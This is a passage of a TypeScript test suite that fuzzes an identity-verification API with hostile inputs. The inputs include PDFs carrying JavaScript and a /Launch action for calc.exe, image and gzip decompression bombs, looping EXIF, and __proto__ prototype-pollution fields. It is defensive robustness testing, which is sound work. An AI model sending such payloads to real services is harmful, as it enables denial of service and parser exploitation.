  add('a PDF with hex-escaped /JS', pdf('/AcroForm << /J#53 (app.alert(1)) >>'), 'application/pdf', 'refused');
  add('a PDF with /Launch', pdf('/X << /S /Launch /F (calc.exe) >>'), 'application/pdf', 'refused');
  add('a PDF with embedded files', pdf('/Names << /EmbeddedFiles 3 0 R >>'), 'application/pdf', 'refused');
  add('a PDF with page actions', pdf('/AA << /O 3 0 R >>'), 'application/pdf', 'refused');
  add(
    'an encrypted PDF',
    Buffer.from(pdf('').toString('latin1').replace('<< /Root', '<< /Encrypt 9 0 R /Root'), 'latin1'),
    'application/pdf',
    'refused',
  );
  add('a PDF header alone', Buffer.from('%PDF-'), 'application/pdf', 'refused');
  add('a PDF with 100k nested arrays', pdf('', `3 0 obj\n${deepArray(100_000).slice(0, 60_000)}\nendobj`), 'application/pdf', 'any');
  add(
    'a PDF with 20k nested dictionaries',
    pdf('', `3 0 obj\n${'<< /A '.repeat(9000)}${' >>'.repeat(9000)}\nendobj`),
    'application/pdf',
    'any',
  );
  add('a PDF with an unterminated stream', pdf('', '3 0 obj\n<< /Length 10 >>\nstream\nabc'), 'application/pdf', 'any');
  add(
    'a PDF with /Length 999999999999',
    pdf('', '3 0 obj\n<< /Length 999999999999 >>\nstream\nabc\nendstream\nendobj'),
    'application/pdf',
    'any',
  );
  add('a PDF with /Length -5', pdf('', '3 0 obj\n<< /Length -5 >>\nstream\nabc\nendstream\nendobj'), 'application/pdf', 'any');
  add(
    'a PDF with a broken FlateDecode stream',
    pdf(
      '',
      `3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 40 >>\nstream\n${randomBytes(40).toString('latin1')}\nendstream\nendobj`,
    ),
    'application/pdf',
    'any',
  );
  add(
    'a PDF with 3000 objects',
    pdf('', ...Array.from({ length: 3000 }, (_, i) => `${i + 10} 0 obj\n<< /K ${i} >>\nendobj`)),
    'application/pdf',
    'any',
  );
  add('a PDF with NULs and invalid UTF-8', pdf('/Title (\0\0\xff\xfe\xed\xa0\x80)'), 'application/pdf', 'any');

  // Decompression bombs and absurd sizes.
  add('a PNG declaring 100000x100000', pngBomb(100_000, 100_000, 1), 'image/png', 413);
  add('a PNG declaring 30000x30000', pngBomb(30_000, 30_000, 1), 'image/png', 413);
  add(
    'a PNG declaring 2^31-1 squared',
    png(ihdr(0x7fffffff, 0x7fffffff), pngChunk('IDAT', deflateSync(Buffer.alloc(16)))),
    'image/png',
    'refused',
  );
  add(
    'a PNG declaring 2^32-1 squared',
    png(ihdr(0xffffffff, 0xffffffff), pngChunk('IDAT', deflateSync(Buffer.alloc(16)))),
    'image/png',
    'refused',
  );
  add('a PNG declaring 0x0', png(ihdr(0, 0), pngChunk('IDAT', deflateSync(Buffer.alloc(16)))), 'image/png', 'refused');
  add('a 7071x7071 PNG of zeros (just under 50 MP)', pngBomb(7071, 7071, 7071), 'image/png', 'any');
  add(
    'a 1x1 PNG whose IDAT inflates to 40 MB',
    png(ihdr(1, 1), pngChunk('IDAT', deflateSync(Buffer.alloc(40_000_000)))),
    'image/png',
    'any',
  );
  add(
    'a PNG with 2000 empty IDATs',
    png(ihdr(4, 4), ...Array.from({ length: 2000 }, () => pngChunk('IDAT', Buffer.alloc(0)))),
    'image/png',
    'refused',
  );
  add(
    'a PNG with a chunk claiming 2 GB',
    Buffer.concat([PNG_SIGNATURE, ihdr(4, 4), Buffer.from([0x7f, 0xff, 0xff, 0xf0]), Buffer.from('tEXt'), randomBytes(64)]),
    'image/png',
    'refused',
  );
  add('a JPEG declaring 65500x65500', jpegWithSize(files.jpeg, 65_500, 65_500), 'image/jpeg', 413);
  add('a JPEG declaring 0x0', jpegWithSize(files.jpeg, 0, 0), 'image/jpeg', 'refused');
  add(
    'a GIF declaring 65535x65535',
    Buffer.concat([Buffer.from('GIF89a'), Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0]), Buffer.from([0x3b])]),
    'image/gif',
    'refused',
  );

  // EXIF and other metadata garbage around a whole JPEG.
  const ifd = (le: boolean, ...words: number[]) => {
    const b = Buffer.alloc(words.length * 2);
    words.forEach((w, i) => (le ? b.writeUInt16LE(w, i * 2) : b.writeUInt16BE(w, i * 2)));
    return b;
  };
  add(
    'a JPEG with EXIF pointing far outside',
    afterSoi(
      files.jpeg,
      segment(0xe1, Buffer.concat([EXIF, Buffer.from('II*\0'), Buffer.from([0xf0, 0xff, 0xff, 0xff]), randomBytes(200)])),
    ),
    'image/jpeg',
    'any',
  );
  add(
    'a JPEG with EXIF orientation 9',
    afterSoi(files.jpeg, segment(0xe1, Buffer.concat([EXIF, Buffer.from('II*\0'), ifd(true, 8, 0, 1, 0x0112, 3, 1, 0, 9, 0, 0, 0)]))),
    'image/jpeg',
    'any',
  );
  add(
    'a JPEG with an EXIF IFD of 65535 entries',
    afterSoi(files.jpeg, segment(0xe1, Buffer.concat([EXIF, Buffer.from('II*\0'), ifd(true, 8, 0, 0xffff), randomBytes(300)]))),
    'image/jpeg',
    'any',
  );
  add(
    'a JPEG with an EXIF IFD that loops',
    afterSoi(files.jpeg, segment(0xe1, Buffer.concat([EXIF, Buffer.from('MM\0*'), ifd(false, 0, 8, 0, 0, 8)]))),
    'image/jpeg',
    'any',
  );
  add('a JPEG with random EXIF', afterSoi(files.jpeg, segment(0xe1, Buffer.concat([EXIF, randomBytes(2000)]))), 'image/jpeg', 'any');
  add(
    'a JPEG with 20 EXIF segments',
    afterSoi(files.jpeg, ...Array.from({ length: 20 }, () => segment(0xe1, Buffer.concat([EXIF, randomBytes(1000)])))),
    'image/jpeg',
    'any',
  );
  add(
    'a JPEG with a garbage ICC profile',
    afterSoi(files.jpeg, segment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), randomBytes(400)]))),
    'image/jpeg',
    'any',
  );
  add(
    'a JPEG whose APP1 runs past the end',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff]), EXIF, randomBytes(10)]),
    'image/jpeg',
    'refused',
  );
  add(
    'a JPEG with XMP holding a script',
    afterSoi(files.jpeg, segment(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${HTML}</x:xmpmeta>`))),
    'image/jpeg',
    'any',
  );

  // Animation, other formats' headers.
  add('an animated GIF', ANIMATED_GIF, 'image/gif', 'refused');
  add('an animated GIF claimed as PNG', ANIMATED_GIF, 'image/png', 'refused');
  const [sig, ...rest] = [PNG_SIGNATURE, ...pngChunks(files.png)];
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(1, 0);
  const fctl = Buffer.alloc(26);
  fctl.writeUInt32BE(4, 4);
  fctl.writeUInt32BE(4, 8);
  fctl.writeUInt16BE(1, 20);
  fctl.writeUInt16BE(1, 22);
  add('an APNG', Buffer.concat([sig, rest[0], pngChunk('acTL', actl), pngChunk('fcTL', fctl), ...rest.slice(1)]), 'image/png', 'any');
  add(
    'a HEIC header then garbage',
    Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), randomBytes(500)]),
    'image/heic',
    'refused',
  );
  add(
    'a HEIC header claimed as JPEG',
    Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), randomBytes(500)]),
    'image/jpeg',
    'refused',
  );
  add(
    'a WebP header then garbage',
    Buffer.concat([Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ', 'latin1'), randomBytes(300)]),
    'image/webp',
    'refused',
  );
  add('a TIFF header then garbage', Buffer.concat([Buffer.from('II*\0\x08\0\0\0', 'latin1'), randomBytes(300)]), 'image/jpeg', 'refused');
  add('a BMP header then garbage', Buffer.concat([Buffer.from('BM'), randomBytes(300)]), 'image/jpeg', 'refused');
  add('a PSD header then garbage', Buffer.concat([Buffer.from('8BPS'), randomBytes(300)]), 'image/png', 'refused');

  // Random bytes behind valid magic numbers.
  const MAGIC: [string, Buffer, string][] = [
    ['JPEG', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'image/jpeg'],
    ['JPEG/EXIF', Buffer.from([0xff, 0xd8, 0xff, 0xe1]), 'image/jpeg'],
    ['PNG', PNG_SIGNATURE, 'image/png'],
    ['PNG+IHDR', Buffer.concat([PNG_SIGNATURE, ihdr(16, 16, 8, 2)]), 'image/png'],
    ['WebP', Buffer.from('RIFF\xff\xff\x00\x00WEBPVP8L', 'latin1'), 'image/webp'],
    ['HEIC', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic')]), 'image/heic'],
    ['AVIF', Buffer.concat([Buffer.from([0, 0, 0, 0x1c]), Buffer.from('ftypavif')]), 'image/jpeg'],
    ['PDF', Buffer.from('%PDF-1.7\n'), 'application/pdf'],
    ['GIF', Buffer.from('GIF89a'), 'image/gif'],
  ];
  for (const [label, magic, type] of MAGIC)
    for (const n of [24, 2_000, 40_000])
      add(`${label} magic and ${n} random bytes`, Buffer.concat([magic, randomBytes(n)]), type, 'refused');

  // Empty, tiny, and the size limit.
  add('zero bytes', Buffer.alloc(0), 'image/jpeg', 'refused');
  add('one byte', Buffer.from([0xff]), 'image/jpeg', 'refused');
  add('the JPEG magic alone', Buffer.from([0xff, 0xd8, 0xff]), 'image/jpeg', 'refused');
  add('the PNG signature alone', PNG_SIGNATURE, 'image/png', 'refused');
  const big = await noise(160, 160).png({ compressionLevel: 0 }).toBuffer();
  add(
    `a whole PNG of exactly MAX_UPLOAD_BYTES (${MAX_UPLOAD_BYTES})`,
    pngOfSize(big.length < MAX_UPLOAD_BYTES ? big : files.png, MAX_UPLOAD_BYTES),
    'image/png',
    'accepted',
  );
  add(
    'a whole PNG one byte over MAX_UPLOAD_BYTES',
    pngOfSize(big.length < MAX_UPLOAD_BYTES ? big : files.png, MAX_UPLOAD_BYTES + 1),
    'image/png',
    413,
  );
  add('a PNG one byte over, chunked', pngOfSize(files.png, MAX_UPLOAD_BYTES + 1), 'image/png', 413, true);
  add(
    'JPEG magic and 4x MAX_UPLOAD_BYTES, chunked',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(4 * MAX_UPLOAD_BYTES)]),
    'image/jpeg',
    413,
    true,
  );
  add(
    'JPEG magic and 20x MAX_UPLOAD_BYTES',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(20 * MAX_UPLOAD_BYTES)]),
    'image/jpeg',
    413,
  );
  return out;
}

// ---- the suite -----------------------------------------------------------------------------------

describe('hostile input', () => {
  let engine: TestEngine;
  let receiver: WebhookReceiver;
  let hostile: HostileFile[] = [];
  let workflowsChecked = 0;
  const tokens = { partner: '', reviewer: '', operator: '', revoked: '', expired: '', foreign: '' };
  const T = {
    app: '',
    idDoc: '',
    backApp: '',
    backDoc: '',
    passportApp: '',
    selfieApp: '',
    selfieDoc: '',
    business: '',
    cancelApp: '',
    reviewApp: '',
    redactApp: '',
    foreignApp: '',
    job: '',
    pendingJob: '',
    failedJob: '',
    webhook: '',
    patchWebhook: '',
    event: '',
    key: '',
  };

  const individual = (opts: Parameters<typeof individualApplication>[0] = {}) => {
    const req = individualApplication(opts) as unknown as { attributes: Record<string, unknown> };
    if (!opts.passport) req.attributes.ssn = nextSsn();
    req.attributes.email = `applicant${ssnCounter}@example.com`;
    return req;
  };
  const createApplication = async (data: unknown, token = tokens.partner) => {
    const res = await engine.api('POST', '/applications', { data }, { authorization: `Bearer ${token}` });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const docs = (res.body.included ?? []) as { id: string; attributes: { documentType: string } }[];
    return {
      id: String(res.body.data.id),
      status: res.body.data.attributes.status as string,
      doc: (t: string) => docs.find((d) => d.attributes.documentType === t)?.id ?? '',
    };
  };

  beforeAll(async () => {
    receiver = await startWebhookReceiver();
    engine = await startTestEngine({
      env: {
        MAX_UPLOAD_BYTES: String(MAX_UPLOAD_BYTES),
        // 429s would hide the answers this suite is after (a 429 is still an acceptable answer).
        RATE_LIMIT_REQUESTS_PER_MINUTE: '1000000',
        VERIFICATION_JOBS_PER_MINUTE: '1000000',
        VERIFICATION_QUEUE_PER_ORG: '100000',
        VERIFICATION_QUEUE_MAX: '100000',
        LOG_LEVEL: 'error',
      },
    });
    tokens.partner = engine.token;
    tokens.reviewer = engine.reviewer.token;
    tokens.operator = (
      await createOrgWithKey(engine.db, `operators of hostile input ${SEED}`, { name: 'operator', scopes: ['operator'] })
    ).key.token;
    const revoked = await createKey(engine.db, engine.orgId, { name: 'revoked', scopes: ['applications'] });
    await revokeKey(engine.db, engine.orgId, revoked.keyId);
    tokens.revoked = revoked.token;
    tokens.expired = (
      await createKey(engine.db, engine.orgId, { name: 'expired', scopes: ['applications'], expiresAt: new Date(Date.now() - 60_000) })
    ).token;
    const foreign = await engine.newOrg();
    tokens.foreign = foreign.token;

    const hook = await engine.api('POST', '/webhooks', {
      data: {
        type: 'webhook',
        attributes: { label: 'hostile', url: receiver.url, token: 'whsec-hostile', contentType: 'Json', deliveryMode: 'AtLeastOnce' },
      },
    });
    expect(hook.status, JSON.stringify(hook.body)).toBe(201);
    T.webhook = hook.body.data.id;
    const hook2 = await engine.api('POST', '/webhooks', {
      data: { type: 'webhook', attributes: { label: 'patched', url: receiver.url, contentType: 'JsonAPI', deliveryMode: 'AtMostOnce' } },
    });
    T.patchWebhook = hook2.body.data.id;

    const app = await createApplication(individual());
    T.app = app.id;
    T.idDoc = app.doc('IdDocument');
    const up = await engine.api('PUT', `/applications/${T.app}/documents/${T.idDoc}`, files.jpeg, { 'content-type': 'image/jpeg' });
    expect(up.status, JSON.stringify(up.body)).toBe(200);
    const backApp = await createApplication(individual());
    T.backApp = backApp.id;
    T.backDoc = backApp.doc('IdDocument');
    const upBack = await engine.api('PUT', `/applications/${T.backApp}/documents/${T.backDoc}/back`, files.png, {
      'content-type': 'image/png',
    });
    expect(upBack.status, JSON.stringify(upBack.body)).toBe(200);
    T.passportApp = (await createApplication(individual({ passport: true }))).id;
    const selfie = await createApplication(individual({ useSelfieVerification: 'ReplaceIdentification' }));
    T.selfieApp = selfie.id;
    T.selfieDoc = selfie.doc('SelfieVerification');
    const business = businessApplication([{}, {}]) as unknown as {
      attributes: { officer: Record<string, unknown>; beneficialOwners: Record<string, unknown>[] };
    };
    for (const p of [business.attributes.officer, ...business.attributes.beneficialOwners]) p.ssn = nextSsn();
    T.business = (await createApplication(business)).id;
    T.cancelApp = (await createApplication(individual())).id;
    T.redactApp = (await createApplication(individual())).id;
    const review = await createApplication(individual({ passport: true }));
    T.reviewApp = review.id;
    const upReview = await engine.api('PUT', `/applications/${T.reviewApp}/documents/${review.doc('Passport')}`, files.pdf, {
      'content-type': 'application/pdf',
    });
    expect(upReview.status, JSON.stringify(upReview.body)).toBe(200);
    await waitForStatus(engine, T.reviewApp, 'PendingReview');
    T.foreignApp = (await createApplication(individual(), foreign.token)).id;

    T.job = await insertVerificationJob(engine, engine.orgId);
    T.pendingJob = await insertVerificationJob(engine, engine.orgId, { status: 'pending' });
    T.failedJob = await insertVerificationJob(engine, engine.orgId, { status: 'failed' });
    const key = await engine.api('POST', '/api-keys', { data: { type: 'apiKey', attributes: { name: 'throwaway', scopes: ['read'] } } });
    expect(key.status, JSON.stringify(key.body)).toBe(201);
    T.key = key.body.data.id;
    for (const until = Date.now() + 15_000; !T.event && Date.now() < until; await new Promise((r) => setTimeout(r, 100)))
      T.event = (await engine.api('GET', '/events?page[limit]=1')).body?.data?.[0]?.id ?? '';
    expect(T.event, 'an event to redeliver').not.toBe('');

    hostile = await hostileFiles();
  }, 120_000);

  afterAll(async () => {
    await engine?.stop();
    await receiver?.close();
  });

  /** Every route of the API, with the real ids and a valid body for each. */
  const routes = () => {
    const b64 = (b: Buffer) => b.toString('base64');
    const garbageJpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(64)]);
    const base = {
      individual: (() => {
        const a = individual();
        a.attributes.ssn = '123450001'; // fixed: mutated bodies that still pass go to review as duplicates
        a.attributes.email = 'mutated@example.com';
        return { data: a };
      })(),
      business: (() => {
        const b = businessApplication([{}]) as unknown as { attributes: Record<string, any> };
        b.attributes.name = 'Hostile Input Inc';
        b.attributes.officer.ssn = '123450002';
        b.attributes.officer.email = 'officer@example.com';
        b.attributes.beneficialOwners[0].ssn = '123450003';
        b.attributes.beneficialOwners[0].email = 'owner@example.com';
        return { data: b };
      })(),
    };
    type Route = {
      method: string;
      path: string;
      ids?: Record<string, string>;
      auth?: keyof typeof tokens | 'none';
      json?: unknown;
      kind?: 'upload' | 'multipart';
      list?: boolean;
    };
    const r: Route[] = [
      { method: 'POST', path: '/applications', json: base.individual },
      { method: 'POST', path: '/applications', json: base.business },
      { method: 'GET', path: '/applications', list: true },
      { method: 'GET', path: '/applications/:app', ids: { app: T.app } },
      {
        method: 'POST',
        path: '/applications/:app/cancel',
        ids: { app: T.cancelApp },
        json: { data: { type: 'applicationCancel', attributes: { reason: 'customer asked' } } },
      },
      {
        method: 'POST',
        path: '/applications/:app/review',
        ids: { app: T.reviewApp },
        auth: 'reviewer',
        json: { data: { type: 'applicationReview', attributes: { decision: 'Approved', reason: 'looked fine' } } },
      },
      { method: 'GET', path: '/applications/:app/documents', ids: { app: T.business } },
      { method: 'POST', path: '/applications/:app/redact', ids: { app: T.redactApp } },
      { method: 'PUT', path: '/applications/:app/documents/:doc', ids: { app: T.app, doc: T.idDoc }, kind: 'upload' },
      { method: 'PUT', path: '/applications/:app/documents/:doc/back', ids: { app: T.backApp, doc: T.backDoc }, kind: 'upload' },
      { method: 'GET', path: '/applications/:app/documents/:doc/download', ids: { app: T.app, doc: T.idDoc } },
      { method: 'GET', path: '/applications/:app/documents/:doc/download/back', ids: { app: T.backApp, doc: T.backDoc } },
      {
        method: 'POST',
        path: '/applications/:app/documents/:doc/verify',
        ids: { app: T.selfieApp, doc: T.selfieDoc },
        json: { data: { type: 'selfieVerification', attributes: { jobId: T.pendingJob } } },
      },
      {
        method: 'POST',
        path: '/verification-jobs',
        json: {
          data: { type: 'verificationJob', attributes: { selfie: b64(garbageJpeg), idFront: b64(garbageJpeg), consent: consent() } },
        },
      },
      { method: 'POST', path: '/verification-jobs', kind: 'multipart' },
      { method: 'GET', path: '/verification-jobs/:job', ids: { job: T.job } },
      { method: 'DELETE', path: '/verification-jobs/:job/images', ids: { job: T.failedJob } },
      { method: 'POST', path: '/verification-jobs/:job/redact', ids: { job: T.failedJob } },
      {
        method: 'POST',
        path: '/webhooks',
        json: {
          data: {
            type: 'webhook',
            attributes: {
              label: 'mutated',
              url: receiver.url,
              token: 'whsec-mutated',
              contentType: 'Json',
              deliveryMode: 'AtLeastOnce',
              includeResources: false,
              subscriptionType: 'All',
            },
          },
        },
      },
      { method: 'GET', path: '/webhooks', list: true },
      { method: 'GET', path: '/webhooks/:hook', ids: { hook: T.webhook } },
      {
        method: 'PATCH',
        path: '/webhooks/:hook',
        ids: { hook: T.patchWebhook },
        json: {
          data: {
            type: 'webhook',
            attributes: { label: 'patched', url: receiver.url, token: 'whsec-patched', contentType: 'Json', includeResources: true },
          },
        },
      },
      { method: 'POST', path: '/webhooks/:hook/enable', ids: { hook: T.patchWebhook } },
      { method: 'POST', path: '/webhooks/:hook/disable', ids: { hook: T.patchWebhook } },
      { method: 'GET', path: '/events', list: true },
      { method: 'GET', path: '/events/:event', ids: { event: T.event } },
      { method: 'POST', path: '/events/:event', ids: { event: T.event } },
      { method: 'GET', path: '/events/:event/deliveries', ids: { event: T.event } },
      {
        method: 'POST',
        path: '/api-keys',
        json: { data: { type: 'apiKey', attributes: { name: 'mutated', scopes: ['read'], expiresAt: '2099-01-01T00:00:00Z' } } },
      },
      { method: 'GET', path: '/api-keys', list: true },
      { method: 'DELETE', path: '/api-keys/:key', ids: { key: T.key } },
      { method: 'POST', path: '/api-keys/:key/rotate', ids: { key: T.key } },
      { method: 'GET', path: '/org' },
      { method: 'PATCH', path: '/org', json: { data: { type: 'org', attributes: { allowSelfReview: false } } } },
      { method: 'POST', path: '/orgs', auth: 'operator', json: { data: { type: 'org', attributes: { name: 'Mutated Org' } } } },
      {
        method: 'POST',
        path: '/codec/decode',
        auth: 'operator',
        json: { payloads: [{ metadata: { encoding: b64(Buffer.from('json/plain')) }, data: b64(Buffer.from('"x"')) }] },
      },
      {
        method: 'POST',
        path: '/codec/encode',
        auth: 'operator',
        json: { payloads: [{ metadata: { encoding: b64(Buffer.from('json/plain')) }, data: b64(Buffer.from('"x"')) }] },
      },
      { method: 'POST', path: '/codec/ui/:secret/decode', ids: { secret: 'a'.repeat(40) }, auth: 'none', json: { payloads: [] } },
      { method: 'GET', path: '/health', auth: 'none' },
      { method: 'GET', path: '/openapi.json', auth: 'none' },
    ];
    return r;
  };

  it('at least 500 generated malformed requests across every endpoint: no 5xx, every error a JSON:API document', async () => {
    const list: Hostile[] = [];
    const authOf = (auth: keyof typeof tokens | 'none' | undefined): OutgoingHttpHeaders =>
      auth === 'none' ? {} : { authorization: `Bearer ${tokens[auth ?? 'partner']}` };
    const JSON_CT = { 'content-type': 'application/vnd.api+json' };
    const fill = (path: string, ids: Record<string, string> = {}, swap?: [string, string]) =>
      path.replace(/:(\w+)/g, (_, k: string) => (swap && swap[0] === k ? swap[1] : ids[k]));
    const multipartJob = () => multipart(jobParts(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(32)])));
    const validBody = (route: ReturnType<typeof routes>[number]): { body?: Buffer | string; headers: OutgoingHttpHeaders } => {
      if (route.json !== undefined) return { body: JSON.stringify(route.json), headers: JSON_CT };
      if (route.kind === 'upload')
        return route.path.endsWith('/back')
          ? { body: files.png, headers: { 'content-type': 'image/png' } }
          : { body: files.jpeg, headers: { 'content-type': 'image/jpeg' } };
      if (route.kind === 'multipart') return multipartJob();
      return { headers: {} };
    };
    const routeList = routes();

    for (const route of routeList) {
      const auth = authOf(route.auth);
      const path = fill(route.path, route.ids);
      const push = (what: string, h: OutgoingHttpHeaders, body?: Buffer | string, more: Partial<Hostile> = {}) =>
        list.push({ method: route.method, path, what, headers: { ...auth, ...h }, body, ...more });

      // 1. Mutated JSON bodies, raw non-documents, wrong content types and encodings.
      if (route.json !== undefined) {
        const valid = JSON.stringify(route.json);
        const n = route.path === '/applications' ? 30 : 12;
        for (let i = 0; i < n; i++) {
          const m = mutate(route.json);
          push(`mutated: ${m.what}`, JSON_CT, m.text);
        }
        for (const [what, body] of rawBodies(valid)) push(what, JSON_CT, body);
        for (const [what, h] of CONTENT_TYPES) push(`content type: ${what}`, h, valid);
        push('gzip bomb (64 MB of spaces)', { ...JSON_CT, 'content-encoding': 'gzip' }, GZIP_BOMB);
        push('gzip of invalid JSON', { ...JSON_CT, 'content-encoding': 'gzip' }, gzipSync(Buffer.from('{"data":')));
        push('deflate of garbage', { ...JSON_CT, 'content-encoding': 'deflate' }, randomBytes(100));
        push('chunked, in 7-byte pieces', JSON_CT, valid.replace(/"[^"]*"\s*}/, '"x"}'), { chunked: 7 });
      }

      // 2. Document uploads: content types, encodings and bodies around a file.
      if (route.kind === 'upload') {
        const { body: file } = validBody(route);
        const garbage = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(500)]);
        for (const [what, ct] of [
          ['charset on the type', 'image/jpeg; charset=utf-8'],
          ['upper case type', 'IMAGE/JPEG'],
          ['two types', 'image/jpeg, image/png'],
          ['image/jpg', 'image/jpg'],
          ['image/*', 'image/*'],
          ['text/plain', 'text/plain'],
          ['application/json', 'application/json'],
          ['multipart', 'multipart/form-data; boundary=x'],
          ['octet-stream', 'application/octet-stream'],
          ['svg', 'image/svg+xml'],
        ])
          push(`upload content type: ${what}`, { 'content-type': ct }, garbage);
        push('no content type', {}, garbage);
        push('upload: empty body', { 'content-type': 'image/jpeg' }, '');
        push('upload: no body', { 'content-type': 'image/jpeg' });
        push('upload: chunked file', { 'content-type': route.path.endsWith('/back') ? 'image/png' : 'image/jpeg' }, file, { chunked: 100 });
        push('upload: chunked over the limit', { 'content-type': 'image/jpeg' }, Buffer.concat([garbage, randomBytes(MAX_UPLOAD_BYTES)]), {
          chunked: 8192,
          expect: exactly(413),
        });
        push('upload: gzip-encoded garbage', { 'content-type': 'image/jpeg', 'content-encoding': 'gzip' }, gzipSync(garbage));
        push('upload: gzip bomb', { 'content-type': 'image/jpeg', 'content-encoding': 'gzip' }, GZIP_BOMB, { expect: refused });
        push('upload: deflate claimed, garbage', { 'content-type': 'image/jpeg', 'content-encoding': 'deflate' }, garbage);
        push('upload: brotli claimed', { 'content-type': 'image/jpeg', 'content-encoding': 'br' }, garbage);
        push('upload: unknown encoding', { 'content-type': 'image/jpeg', 'content-encoding': 'x-unknown' }, garbage);
        push('upload: JSON body', JSON_CT, '{"data":{"type":"document"}}');
      }

      // 3. Malformed multipart verification jobs.
      if (route.kind === 'multipart') {
        const img = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(64)]);
        const cases: [string, ReturnType<typeof multipart>][] = [
          [
            'boundary mismatch',
            { body: multipart(jobParts(img), 'one').body, headers: { 'content-type': 'multipart/form-data; boundary=other' } },
          ],
          ['no closing boundary', multipart(jobParts(img), undefined, { close: false })],
          ['LF line ends', multipart(jobParts(img), undefined, { eol: '\n' })],
          ['empty body', { body: Buffer.alloc(0), headers: { 'content-type': 'multipart/form-data; boundary=x' } }],
          ['closing boundary only', { body: Buffer.from('--x--\r\n'), headers: { 'content-type': 'multipart/form-data; boundary=x' } }],
          [
            'JSON in a multipart body',
            { body: Buffer.from('{"data":{}}'), headers: { 'content-type': 'multipart/form-data; boundary=x' } },
          ],
          ['a 200-character boundary', multipart(jobParts(img), 'b'.repeat(200))],
          ['a part without headers', multipart([{ data: img, rawHeaders: '' }, ...jobParts(img)])],
          ['a part without a name', multipart([{ filename: 'x.jpg', type: 'image/jpeg', data: img }, ...jobParts(img)])],
          ['an unknown file field', multipart(jobParts(img, [{ name: 'avatar', filename: 'a.jpg', type: 'image/jpeg', data: img }]))],
          ['an unknown text field', multipart(jobParts(img, [{ name: 'role', data: 'admin' }]))],
          ['__proto__ as a field', multipart(jobParts(img, [{ name: '__proto__', data: '{"polluted":true}' }]))],
          ['selfie as a text field', multipart([{ name: 'selfie', data: 'not a file' }, jobParts(img)[1]])],
          ['fullName as a file', multipart(jobParts(img, [{ name: 'fullName', filename: 'n.txt', type: 'text/plain', data: 'Jane' }]))],
          ['a NUL in fullName', multipart(jobParts(img, [{ name: 'fullName', data: 'Jane\u0000Doe' }]))],
          [
            'CESU-8 surrogate bytes in fullName',
            multipart(jobParts(img, [{ name: 'fullName', data: Buffer.from([0x4a, 0xed, 0xa0, 0x80]) }])),
          ],
          ['invalid UTF-8 in fullName', multipart(jobParts(img, [{ name: 'fullName', data: Buffer.from([0x4a, 0xff, 0xfe]) }]))],
          ['a 20 KB fullName', multipart(jobParts(img, [{ name: 'fullName', data: 'J'.repeat(20_000) }]))],
          ['a 300-char fullName', multipart(jobParts(img, [{ name: 'fullName', data: 'J'.repeat(300) }]))],
          ['malformed expectedPerson', multipart(jobParts(img, [{ name: 'expectedPerson', data: '{"fullName":' }]))],
          ['deeply nested expectedPerson', multipart(jobParts(img, [{ name: 'expectedPerson', data: deepObject(2500) }]))],
          [
            'expectedPerson with __proto__',
            multipart(jobParts(img, [{ name: 'expectedPerson', data: '{"__proto__":{"x":1},"fullName":"Jane"}' }])),
          ],
          ['expectedPerson a lone surrogate', multipart(jobParts(img, [{ name: 'expectedPerson', data: '{"fullName":"\\ud800"}' }]))],
          [
            'expectedPerson and fullName',
            multipart(
              jobParts(img, [
                { name: 'expectedPerson', data: '{"fullName":"Jane"}' },
                { name: 'fullName', data: 'Jane' },
              ]),
            ),
          ],
          ['expectedPerson an array', multipart(jobParts(img, [{ name: 'expectedPerson', data: '[1,2]' }]))],
          ['dateOfBirth 2023-02-30', multipart(jobParts(img, [{ name: 'dateOfBirth', data: '2023-02-30' }]))],
          ['dateOfBirth 99999-01-01', multipart(jobParts(img, [{ name: 'dateOfBirth', data: '99999-01-01' }]))],
          ['no consent', multipart(jobParts(img, [], 'image/jpeg', false))],
          [
            'consent from the future',
            multipart(
              jobParts(
                img,
                [
                  { name: 'consentTextVersion', data: 'v1' },
                  { name: 'consentAcceptedAt', data: '2999-01-01T00:00:00Z' },
                ],
                'image/jpeg',
                false,
              ),
            ),
          ],
          [
            'consent accepted at year 0',
            multipart(
              jobParts(
                img,
                [
                  { name: 'consentTextVersion', data: 'v1' },
                  { name: 'consentAcceptedAt', data: '0000-01-01T00:00:00Z' },
                ],
                'image/jpeg',
                false,
              ),
            ),
          ],
          [
            'consent time a NUL',
            multipart(
              jobParts(
                img,
                [
                  { name: 'consentTextVersion', data: 'v1' },
                  { name: 'consentAcceptedAt', data: '\u0000' },
                ],
                'image/jpeg',
                false,
              ),
            ),
          ],
          [
            'consent version 10 KB',
            multipart(
              jobParts(
                img,
                [
                  { name: 'consentTextVersion', data: 'v'.repeat(10_000) },
                  { name: 'consentAcceptedAt', data: consent().acceptedAt },
                ],
                'image/jpeg',
                false,
              ),
            ),
          ],
          ['consent IP address garbage', multipart(jobParts(img, [{ name: 'consentIpAddress', data: '999.1.1.1%00' }]))],
          ['consent IPv6 zone id', multipart(jobParts(img, [{ name: 'consentIpAddress', data: 'fe80::1%eth0' }]))],
          ['consent user agent 15 KB', multipart(jobParts(img, [{ name: 'consentUserAgent', data: 'U'.repeat(15_000) }]))],
          [
            'consent user agent invalid UTF-8',
            multipart(jobParts(img, [{ name: 'consentUserAgent', data: Buffer.from([0x41, 0xc0, 0xaf, 0xff]) }])),
          ],
